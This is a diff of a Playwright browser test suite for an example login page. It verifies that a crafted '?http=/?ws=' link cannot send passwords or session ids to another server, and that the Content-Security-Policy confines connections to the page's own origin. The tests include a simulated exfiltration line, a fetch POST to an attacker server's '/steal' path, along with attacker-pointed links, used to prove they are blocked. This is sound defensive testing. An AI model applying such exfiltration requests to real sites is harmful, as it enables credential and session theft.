@@ -9,13 +9,15 @@ import { buildWebPage } from '../../frontend/build';
 import { AttackerServer, startAttackerServer } from '../helpers/attackerServer';
 import { logIn, submitLogin, waitForText } from '../helpers/browserPage';
 import { freePort } from '../helpers/freePort';
-import { ApiUrls, PageServer, servePage, startExampleApi } from '../helpers/pageHarness';
+import { ApiUpstreams } from '../../backend/src/webServer';
+import { PageServer, servePage, startExampleApi } from '../helpers/pageHarness';
 import { TEST_SECRETS } from '../helpers/sessionServer';
 import { silentLogger } from '../helpers/transports';
 
 /**
  * Issue 12 item 1: a link to the real page with `?http=`/`?ws=` pointing at another server must
- * not send that server the password typed into the page or the session id the page holds.
+ * not send that server the password typed into the page or the session id the page holds. Since
+ * the page and its API share one origin (issue 13), the page takes no address from anywhere.
  */
 describe('example page in Chromium: a link cannot point the page at another server', function () {
     this.timeout(60_000);
@@ -23,10 +25,10 @@ describe('example page in Chromium: a link cannot point the page at another serv
     let app: ExampleApp | undefined;
     let attacker: AttackerServer | undefined;
     let contexts: BrowserContext[] = [];
-    let apiUrls: ApiUrls = { http: '', ws: '' };
+    let upstreams: ApiUpstreams | undefined;
 
     before(async () => {
-        served = await servePage(() => apiUrls);
+        served = await servePage(() => upstreams);
     });
 
     after(async () => {
@@ -34,7 +36,7 @@ describe('example page in Chromium: a link cannot point the page at another serv
     });
 
     beforeEach(async () => {
-        ({ app, urls: apiUrls } = await startExampleApi(served!.web.origin));
+        ({ app, upstreams } = await startExampleApi(served!.web.origin));
         attacker = await startAttackerServer();
     });
 
@@ -44,6 +46,11 @@ describe('example page in Chromium: a link cannot point the page at another serv
         await app?.stop();
         await attacker?.stop();
     });
+
+    /** What the page calls: its own origin. */
+    function pageApiUrl(transport: 'http' | 'ws'): string {
+        return transport === 'http' ? `${served!.web.origin}/api/` : `${served!.web.origin.replace('http:', 'ws:')}/ws`;
+    }
 
     async function newDevice(): Promise<BrowserContext> {
         const context = await served!.browser.newContext();
@@ -81,26 +88,25 @@ describe('example page in Chromium: a link cannot point the page at another serv
         assert.doesNotMatch(attacker!.received, /wonderland/, 'the attacker received the password');
         assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
         await page.getByText('Signed in as Alice').waitFor();
-        assert.strictEqual(await page.locator('#server').textContent(), apiUrls.http);
+        assert.strictEqual(await page.locator('#server').textContent(), pageApiUrl('http'));
     });
 
     for (const transport of ['http', 'ws'] as const) {
         it(`after a login over ${transport}, ?http=/?ws=<other host> (transport=${transport}) send the session id nowhere`, async () => {
             const device = await newDevice();
-            const first = await open(device, { ...apiUrls, transport });
+            const first = await open(device, { transport });
             await first.getByRole('heading', { name: 'Account' }).waitFor();
             await logIn(first, 'alice', 'wonderland');
-            const stored = await first.evaluate(() => Object.values(localStorage).join(' '));
-            const sid = /"sid":\{"value":"([^"]+)"/.exec(stored)?.[1];
-            assert.ok(sid, 'the login stored a session id');
+            const sid = (await device.cookies()).find(cookie => cookie.name === 'sid')?.value;
+            assert.ok(sid, 'the login set the session cookie');
 
             // The link an attacker sends: the real page, its API addresses pointing elsewhere.
-            const linked = await open(device, { http: transport === 'http' ? attacker!.httpUrl : apiUrls.http, ws: attacker!.wsUrl, transport });
+            const linked = await open(device, { http: attacker!.httpUrl, ws: attacker!.wsUrl, transport });
             await settled(linked);
             assert.ok(!attacker!.received.includes(sid.split('.')[0]), 'the attacker received the session id');
             assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
             await linked.getByText('Signed in as Alice').waitFor();
-            await waitForText(linked, '#server', apiUrls[transport]);
+            await waitForText(linked, '#server', pageApiUrl(transport));
         });
     }
 
@@ -115,23 +121,25 @@ describe('example page in Chromium: a link cannot point the page at another serv
         }
     });
 
-    it('sends a Content-Security-Policy that lets the page connect to its API servers only and never be framed', async () => {
+    it('sends a Content-Security-Policy that lets the page connect to its own origin only and never be framed', async () => {
         const page = await (await newDevice()).newPage();
         const response = await page.goto(`${served!.web.origin}/`);
         const csp = response!.headers()['content-security-policy'];
         assert.ok(csp, 'a Content-Security-Policy header');
         const directives = new Map(csp.split(';').map(d => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
-        assert.deepStrictEqual(directives.get('connect-src'), [apiUrls.http, apiUrls.ws]);
+        const host = new URL(served!.web.origin).host;
+        assert.deepStrictEqual(directives.get('connect-src'), ["'self'", `ws://${host}`, `wss://${host}`]);
         assert.deepStrictEqual(directives.get('frame-ancestors'), ["'none'"]);
         assert.deepStrictEqual(directives.get('default-src'), ["'none'"]);
-        // The browser enforces it: a script on the page cannot reach another server.
+        // The browser enforces it: a script on the page cannot reach another server, nor the API servers behind the page.
         await page.getByRole('heading', { name: 'Account' }).waitFor();
-        const outcome = await page.evaluate(url => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'), `${attacker!.httpUrl}/steal`);
-        assert.strictEqual(outcome, 'blocked');
+        const post = (url: string) => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked');
+        assert.strictEqual(await page.evaluate(post, `${attacker!.httpUrl}/steal`), 'blocked');
+        assert.strictEqual(await page.evaluate(post, `http://127.0.0.1:${upstreams!.http.port}/api/GetMe`), 'blocked');
         assert.deepStrictEqual(attacker!.log.requests, []);
     });
 
-    it('a page of another origin cannot open the API\'s WebSocket (allowed origins), the example page can', async () => {
+    it('a page of another origin cannot open the page\'s WebSocket (allowed origins), the example page can', async () => {
         const device = await newDevice();
         const foreign = await device.newPage();
         await foreign.goto(`${attacker!.httpUrl}/`);
@@ -140,27 +148,30 @@ describe('example page in Chromium: a link cannot point the page at another serv
             socket.onopen = () => { socket.close(); ok('open'); };
             socket.onerror = () => ok('refused');
         });
-        assert.strictEqual(await foreign.evaluate(tryWebSocket, apiUrls.ws), 'refused');
+        assert.strictEqual(await foreign.evaluate(tryWebSocket, pageApiUrl('ws')), 'refused');
         const own = await open(device, {});
         await own.getByRole('heading', { name: 'Account' }).waitFor();
-        assert.strictEqual(await own.evaluate(tryWebSocket, apiUrls.ws), 'open');
+        assert.strictEqual(await own.evaluate(tryWebSocket, pageApiUrl('ws')), 'open');
     });
 
-    it('started from its environment, the page calls the HTTP_PORT and WS_PORT it was given, not 3000/3001', async () => {
+    it('started from its environment: one origin on WEB_PORT, the API servers on loopback at HTTP_PORT and WS_PORT behind it', async () => {
         const ports = { WEB_PORT: await freePort(), HTTP_PORT: await freePort(), WS_PORT: await freePort() };
         const example = await startExample({
             ...Object.fromEntries(Object.entries(ports).map(([name, port]) => [name, String(port)])),
             WEB_ROOT: served!.outdir, SESSION_SECRETS: TEST_SECRETS.join(','),
         }, silentLogger);
         try {
-            assert.deepStrictEqual(example.api, { httpUrl: `http://127.0.0.1:${ports.HTTP_PORT}`, wsUrl: `ws://127.0.0.1:${ports.WS_PORT}` });
+            const origin = `http://127.0.0.1:${ports.WEB_PORT}`;
+            assert.deepStrictEqual(example.api, { httpUrl: `${origin}/api`, wsUrl: `ws://127.0.0.1:${ports.WEB_PORT}/ws` });
+            assert.deepStrictEqual(example.upstreams, { http: { host: '127.0.0.1', port: ports.HTTP_PORT }, ws: { host: '127.0.0.1', port: ports.WS_PORT } });
+            assert.deepStrictEqual([example.app.http.httpServer?.address()], [{ address: '127.0.0.1', family: 'IPv4', port: ports.HTTP_PORT }]);
             const page = await (await newDevice()).newPage();
-            await page.goto(`http://127.0.0.1:${ports.WEB_PORT}/`);
+            await page.goto(`${origin}/`);
             await logIn(page, 'alice', 'wonderland');
-            assert.strictEqual(await page.locator('#server').textContent(), example.api.httpUrl);
+            assert.strictEqual(await page.locator('#server').textContent(), `${origin}/api/`);
             await page.getByText('WebSocket', { exact: true }).click();
-            await waitForText(page, '#server', example.api.wsUrl);
-            await logIn(page, 'bob', 'builder');
+            await waitForText(page, '#server', `ws://127.0.0.1:${ports.WEB_PORT}/ws`);
+            await page.getByText('Signed in as Alice').waitFor();
             assert.ok(example.app.ws.connections.length > 0, 'the page calls over its WebSocket');
         } finally {
             await Promise.all(contexts.map(c => c.close()));
